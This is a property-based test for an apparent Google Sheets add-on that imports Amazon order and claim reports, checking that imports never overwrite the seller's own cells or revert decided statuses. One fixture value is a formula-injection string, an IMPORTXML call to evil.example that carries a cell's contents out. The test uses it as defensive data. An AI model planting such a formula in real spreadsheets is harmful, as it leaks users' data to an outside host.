/**
 * Issue 11, "Nothing lost", as a property: random sequences of report files — newer, older,
 * partial, repeated — imported by the built bundle into a workbook the seller keeps editing
 * (typed values, formulas, own columns, formats). After every import:
 * - no cell outside the write plan changed (value, formula or number format): the plan is
 *   computed by core from the same sheets the add-on reads;
 * - a value the seller typed, a formula and the seller's own columns never changed;
 * - no decided status moved back to an undecided one;
 * - the import either wrote its plan or stopped before writing; it never failed half-way.
 */
import fc from 'fast-check';
import { importFiles, planImport, type SheetPaintPlan } from '../../src/core/import';
import { statusFinality } from '../../src/core/import';
import type { ImportResult } from '../../src/core/wire/types';
import { readSheetForWriting } from '../../src/addon/shared/data-sheets';
import { emulateBundle, plainValue, type Emulator } from '../helpers/emulator';
import { requireBuild } from './harness';

const RUNS = Number(process.env.IMPORT_RUNS ?? 60);

// ---- the world the files describe ---------------------------------------------------------

const CLAIM_FINALS = ['Granted', 'Denied', 'Withdrawn', 'Closed', 'Reversed'] as const;
const ORDER_FINALS = ['Shipped', 'Cancelled'] as const;

interface Claim {
  id: string;
  /** Days (from day 0) when it went under review and when it was decided. */
  review: number;
  decided: number;
  final: (typeof CLAIM_FINALS)[number];
}

interface Order {
  id: string;
  shipped: number;
  final: (typeof ORDER_FINALS)[number];
  sku: string;
}

function claimStatus(c: Claim, day: number): [string, number] {
  if (day >= c.decided) return [c.final, c.decided];
  if (day >= c.review) return ['Under review', c.review];
  return ['Open', 0];
}

function orderStatus(o: Order, day: number): [string, number] {
  return day >= o.shipped ? [o.final, o.shipped] : ['Pending', 0];
}

const iso = (day: number): string =>
  new Date(Date.UTC(2024, 0, 2 + day)).toISOString().slice(0, 10);
const us = (day: number): string => {
  const d = new Date(Date.UTC(2024, 0, 2 + day));
  return `${d.getUTCMonth() + 1}/${d.getUTCDate()}/${d.getUTCFullYear()}`;
};

/** One file: a snapshot of the world on `day`, of some rows, maybe cut off after an id. */
interface FileSpec {
  kind: 'claims' | 'orders';
  day: number;
  rows: number[];
  dated: boolean;
  itemColumn: boolean;
  cutLast: boolean;
}

function fileText(spec: FileSpec, claims: Claim[], orders: Order[]): string {
  const lines: string[] = [];
  if (spec.kind === 'claims') {
    lines.push(
      `Order ID\tClaim status\tClaim date\tClaim reason${spec.dated ? '\tStatus date' : ''}`,
    );
    for (const i of spec.rows) {
      const c = claims[i % claims.length];
      const [status, since] = claimStatus(c, spec.day);
      lines.push(
        [c.id, status, us(0), 'Item not received', ...(spec.dated ? [us(since)] : [])].join('\t'),
      );
    }
  } else {
    lines.push(
      [
        'amazon-order-id',
        'purchase-date',
        ...(spec.dated ? ['last-updated-date'] : []),
        'order-status',
        ...(spec.itemColumn ? ['sku'] : []),
      ].join('\t'),
    );
    for (const i of spec.rows) {
      const o = orders[i % orders.length];
      const [status, since] = orderStatus(o, spec.day);
      lines.push(
        [
          o.id,
          `${iso(0)}T10:00:00+00:00`,
          ...(spec.dated ? [`${iso(since)}T12:00:00+00:00`] : []),
          status,
          ...(spec.itemColumn ? [o.sku] : []),
        ].join('\t'),
      );
    }
  }
  if (spec.cutLast && lines.length > 1)
    lines[lines.length - 1] = lines[lines.length - 1].split('\t')[0];
  return `${lines.join('\n')}\n`;
}

// ---- what the seller does between imports -------------------------------------------------

type Edit =
  | { kind: 'typeStatus'; row: number; value: string }
  | { kind: 'ownColumn'; row: number; value: string }
  | { kind: 'ownFormula'; row: number; array: boolean }
  | { kind: 'ledgerFormula'; row: number }
  | { kind: 'format'; row: number };

const STATUS_WORDS = [
  'Open',
  'Reversed (appeal won)',
  'Denied',
  'Pending',
  'Under review',
  "'00123",
  "'TRUE",
];

const editArb: fc.Arbitrary<Edit> = fc.oneof(
  fc.record({
    kind: fc.constant('typeStatus' as const),
    row: fc.nat(8),
    value: fc.constantFrom(...STATUS_WORDS),
  }),
  fc.record({
    kind: fc.constant('ownColumn' as const),
    row: fc.nat(8),
    value: fc.constantFrom(
      "'00123",
      "'1/2/2024",
      "'TRUE",
      "'12%",
      '\'=IMPORTXML("https://evil.example/x?"&A2,"//a")',
      'note',
    ),
  }),
  fc.record({ kind: fc.constant('ownFormula' as const), row: fc.nat(8), array: fc.boolean() }),
  fc.record({ kind: fc.constant('ledgerFormula' as const), row: fc.nat(8) }),
  fc.record({ kind: fc.constant('format' as const), row: fc.nat(8) }),
);

const fileArb: fc.Arbitrary<FileSpec> = fc.record({
  kind: fc.constantFrom('claims' as const, 'orders' as const),
  day: fc.integer({ min: 0, max: 30 }),
  rows: fc.uniqueArray(fc.nat(5), { minLength: 1, maxLength: 6 }),
  dated: fc.boolean(),
  itemColumn: fc.boolean(),
  cutLast: fc.boolean(),
});

const worldArb = fc.record({
  claims: fc.array(
    fc.record({
      review: fc.integer({ min: 1, max: 10 }),
      wait: fc.integer({ min: 1, max: 15 }),
      final: fc.constantFrom(...CLAIM_FINALS),
    }),
    { minLength: 6, maxLength: 6 },
  ),
  orders: fc.array(
    fc.record({
      shipped: fc.integer({ min: 1, max: 20 }),
      final: fc.constantFrom(...ORDER_FINALS),
      sku: fc.constantFrom('SKU-1', '00123', 'TRUE'),
    }),
    { minLength: 6, maxLength: 6 },
  ),
  steps: fc.array(
    fc.record({ file: fileArb, repeat: fc.boolean(), edits: fc.array(editArb, { maxLength: 3 }) }),
    {
      minLength: 2,
      maxLength: 5,
    },
  ),
});

// ---- looking at the workbook ---------------------------------------------------------------

interface CellState {
  value: unknown;
  formula: string;
  format: string;
}

/** What each cell holds as stored (not as computed: a spill's values are the formula's). */
function cellsOf(emulator: Emulator, sheet: string): Map<string, CellState> {
  const out = new Map<string, CellState>();
  const model = emulator.core.sheetByName(sheet);
  if (!model) return out;
  const rows = Math.min(model.maxRows, model.lastRow() + 2);
  for (let r = 1; r <= rows; r++) {
    for (let c = 1; c <= model.maxColumns; c++) {
      const stored = model.get(r, c);
      const formula =
        typeof stored === 'object' && stored !== null && 'formula' in stored ? stored.formula : '';
      const value = formula === '' ? plainValue(stored) : '';
      const format = String(model.getFormat('numberFormat', r, c));
      if (value === '' && formula === '' && format === '0.###############') continue;
      out.set(`${r},${c}`, { value, formula, format });
    }
  }
  return out;
}

const same = (a: CellState | undefined, b: CellState | undefined): boolean =>
  JSON.stringify(a ?? null) === JSON.stringify(b ?? null);

/** The cells a sheet's plan writes, "row,col" (1-based). */
function plannedCells(plan: SheetPaintPlan): Set<string> {
  const out = new Set<string>();
  for (const rect of plan.forward.rects) {
    rect.values.forEach((line, i) =>
      line.forEach((_, j) => out.add(`${rect.row + i},${rect.col + j}`)),
    );
  }
  for (const g of plan.forward.groups) {
    for (const a1 of g.cells) {
      const m = /^([A-Z]+)(\d+)$/.exec(a1);
      if (!m) continue;
      let col = 0;
      for (const ch of m[1]) col = col * 26 + ch.charCodeAt(0) - 64;
      out.add(`${m[2]},${col}`);
    }
  }
  if (plan.header) for (let c = 1; c <= plan.header.width; c++) out.add(`${plan.header.row},${c}`);
  return out;
}

const LEDGERS = [
  { sheet: 'Orders', status: 'order-status' },
  { sheet: 'Defects', status: 'Status' },
] as const;

/** The header row, trailing blanks left out. */
function headerOf(emulator: Emulator, sheet: string): unknown[] {
  if (!emulator.core.sheetByName(sheet)) return [];
  const row = emulator.snapshot(sheet, 1, 1).values[0];
  let end = row.length;
  while (end > 0 && row[end - 1] === '') end--;
  return row.slice(0, end);
}

/** Row → stored status, for the decided-never-moves-back check. */
function statuses(emulator: Emulator, sheet: string, statusHeader: string): Map<string, string> {
  const out = new Map<string, string>();
  const col = headerOf(emulator, sheet).indexOf(statusHeader) + 1;
  if (col < 1) return out;
  const cells = cellsOf(emulator, sheet);
  for (const [at, cell] of cells) {
    const [row, c] = at.split(',').map(Number);
    if (c === col && row > 1 && cell.formula === '') out.set(String(row), String(cell.value));
  }
  return out;
}

describe('importing random sequences of files into a workbook the seller edits', () => {
  beforeAll(requireBuild);

  it('changes no cell outside the plan, never a typed value or formula, never moves a decided fact back', () => {
    let imports = 0;
    let stopped = 0;
    fc.assert(
      fc.property(worldArb, (world) => {
        const claims: Claim[] = world.claims.map((c, i) => ({
          id: `111-${String(i + 1).padStart(7, '0')}-${String(i + 1).padStart(7, '0')}`,
          review: c.review,
          decided: c.review + c.wait,
          final: c.final,
        }));
        const orders: Order[] = world.orders.map((o, i) => ({
          id: `112-${String(i + 1).padStart(7, '0')}-0000001`,
          ...o,
        }));
        const { emulator, call } = emulateBundle();
        const g = globalThis as Record<string, unknown>;
        g.SpreadsheetApp = emulator.globals.SpreadsheetApp;
        const spreadsheet =
          emulator.spreadsheet as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet;
        // Cells the seller typed or made formulas: sheet → "row,col" → what they hold.
        const mine = new Map<string, Map<string, CellState>>();
        // What the import last wrote into each cell: sheet → "row,col" → value.
        const imported = new Map<string, Map<string, unknown>>();
        let previous: FileSpec | null = null;
        for (const step of world.steps) {
          // ---- the seller's edits ----
          for (const edit of step.edits) {
            const ledger =
              edit.kind === 'typeStatus' || edit.kind === 'ledgerFormula' ? 'Defects' : 'Orders';
            const sheet = emulator.spreadsheet.getSheetByName(ledger);
            if (!sheet || sheet.getLastRow() < 2) continue;
            const header = headerOf(emulator, ledger);
            const row = 2 + (edit.row % (sheet.getLastRow() - 1));
            let col: number;
            if (
              edit.kind === 'typeStatus' ||
              edit.kind === 'ledgerFormula' ||
              edit.kind === 'format'
            ) {
              col = header.indexOf(ledger === 'Defects' ? 'Status' : 'order-status') + 1;
              if (col < 1) continue;
            } else {
              // The seller's own column: two to the right of everything the import made.
              col = header.length + 2;
              if (sheet.getRange(1, col).getValue() === '')
                sheet.getRange(1, col).setValue('My column');
            }
            const range = sheet.getRange(row, col);
            const held = cellsOf(emulator, ledger).get(`${row},${col}`);
            if (edit.kind === 'typeStatus' || edit.kind === 'ownColumn') range.setValue(edit.value);
            else if (edit.kind === 'ownFormula') {
              range.setFormula(edit.array ? `=ARRAYFORMULA(A${row}:A${row + 1})` : `=A${row}`);
            } else if (edit.kind === 'ledgerFormula') range.setFormula(`="Open"`);
            else range.setNumberFormat('0.00');
            // Typing what a cell already holds changes nothing anyone can see, and typing back
            // what the import last wrote there makes it the import's again (docs/nothing-lost.md,
            // "Limits"): neither is the seller's.
            const at = `${row},${col}`;
            const state = cellsOf(emulator, ledger).get(at);
            const backToImport =
              state !== undefined &&
              state.formula === '' &&
              JSON.stringify(imported.get(ledger)?.get(at)) === JSON.stringify(state.value);
            if (backToImport) mine.get(ledger)?.delete(at);
            else if (edit.kind !== 'format' && !same(held, state)) {
              if (!mine.has(ledger)) mine.set(ledger, new Map());
              mine.get(ledger)?.set(at, state ?? { value: '', formula: '', format: '' });
            }
          }

          // ---- the plan core computes from the sheets as the add-on reads them ----
          const spec: FileSpec = step.repeat && previous ? previous : step.file;
          previous = spec;
          const files = [
            { name: `${spec.kind}-${spec.day}.txt`, text: fileText(spec, claims, orders) },
          ];
          const draft = importFiles(
            files.map((f) => ({ name: f.name, content: f.text })),
            {
              orders: readSheetForWriting(spreadsheet, 'Orders'),
              defects: readSheetForWriting(spreadsheet, 'Defects'),
            },
            { today: new Date().toISOString().slice(0, 10) },
          );
          const plan = planImport(draft, {
            formats: {},
            cellsInUse: 0,
            properties: {},
            propertyWrites: [],
          });
          const planned = new Map<string, Set<string>>(
            plan.sheets.map((p) => [p.sheet, plannedCells(p)]),
          );
          const before = new Map(LEDGERS.map((l) => [l.sheet, cellsOf(emulator, l.sheet)]));
          const statusBefore = new Map(
            LEDGERS.map((l) => [l.sheet, statuses(emulator, l.sheet, l.status)]),
          );

          // ---- the import, by the built bundle ----
          const result = call<ImportResult>('importReports', files);
          imports++;
          expect(['written', 'stopped']).toContain(result.outcome);
          if (result.outcome === 'stopped') stopped++;
          expect(result.outcome === 'stopped').toBe(plan.stop !== null);

          for (const { sheet, status } of LEDGERS) {
            const was = before.get(sheet) ?? new Map<string, CellState>();
            const now = cellsOf(emulator, sheet);
            const allowed =
              result.outcome === 'written' ? (planned.get(sheet) ?? new Set()) : new Set<string>();
            for (const key of new Set([...was.keys(), ...now.keys()])) {
              if (same(was.get(key), now.get(key))) continue;
              if (!imported.has(sheet)) imported.set(sheet, new Map());
              imported.get(sheet)?.set(key, now.get(key)?.value ?? '');
              // 1. Nothing changes outside the plan.
              expect([sheet, key, allowed.has(key)]).toEqual([sheet, key, true]);
            }
            // 2. What the seller typed, their formulas and own columns stay as they made them.
            for (const [at, state] of mine.get(sheet) ?? []) {
              expect([sheet, at, now.get(at) ?? null]).toEqual([sheet, at, state]);
            }
            // 3. No formula but the seller's.
            for (const [at, cell] of now) {
              if (cell.formula !== '')
                expect([sheet, at, mine.get(sheet)?.has(at)]).toEqual([sheet, at, true]);
            }
            // 4. A decided status the import wrote never becomes undecided.
            const after = statuses(emulator, sheet, status);
            const col = headerOf(emulator, sheet).indexOf(status) + 1;
            for (const [row, value] of statusBefore.get(sheet) ?? []) {
              if (mine.get(sheet)?.has(`${row},${col}`)) continue;
              if (statusFinality(value) === 'decided') {
                expect([sheet, row, value, statusFinality(after.get(row) ?? '')]).not.toEqual([
                  sheet,
                  row,
                  value,
                  'undecided',
                ]);
              }
            }
          }
        }
      }),
      { numRuns: RUNS },
    );
    console.log(
      `import sequences: ${RUNS} workbooks, ${imports} imports (${stopped} stopped before writing)`,
    );
  });
});
